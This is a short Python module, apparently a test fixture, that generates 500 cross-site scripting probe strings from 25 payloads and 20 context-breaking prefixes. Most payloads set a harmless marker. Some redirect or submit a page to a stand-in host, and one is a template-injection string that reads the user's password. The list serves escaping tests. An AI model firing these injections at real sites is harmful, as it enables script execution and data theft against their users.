"""500 texts that become active where a page does not escape them."""

from itertools import islice, product

MARK = "xss"
PAYLOADS = (
    "<script>window.xss=1</script>",
    "<img src=x onerror=window.xss=1>",
    "<svg onload=window.xss=1>",
    "<svg/onload=window.xss=1//",
    "<iframe srcdoc='<script>parent.xss=1</script>'></iframe>",
    "<body onload=window.xss=1>",
    "<a href=javascript:window.xss=1>x</a>",
    "<details open ontoggle=window.xss=1>",
    "<input autofocus onfocus=window.xss=1>",
    "<style>@import'//x.example'</style>",
    "<base href=//x.example/>",
    "<form action=//x.example><button>go</button></form>",
    "<math><mi xlink:href=javascript:window.xss=1>x</mi></math>",
    "<template><script>window.xss=1</script></template>",
    "<meta http-equiv=refresh content='0;url=//x.example'>",
    "<link rel=stylesheet href=//x.example/x.css>",
    " onmouseover=window.xss=1 x=",
    " autofocus onfocus=window.xss=1 ",
    "javascript:window.xss=1",
    "{{ request.user.password }}{% debug %}",
    "{{constructor.constructor('window.xss=1')()}}",
    "${window.xss=1}",
    "%3Cscript%3Ewindow.xss=1%3C/script%3E",
    "&lt;script&gt;window.xss=1&lt;/script&gt;",
    "\\u003cscript\\u003ewindow.xss=1\\u003c/script\\u003e",
)
OPENINGS = ("", '"', "'", "`", "\">", "'>", "-->", "]]>", "</title>", "</textarea>", "</pre>", "</script>", "</style>",
            "</svg>", "</td></tr></table>", "</a>", "*/", "\n", "\u2028", "\u202e")  # fmt: skip
STRINGS: tuple[str, ...] = tuple(f"{opening}{payload}" for payload, opening in islice(product(PAYLOADS, OPENINGS), 500))
TEXTS = tuple(" ".join(STRINGS[start : start + 3]) for start in range(0, len(STRINGS), 3))
"""All of them, three to a row: each column of 255 characters has room for three."""
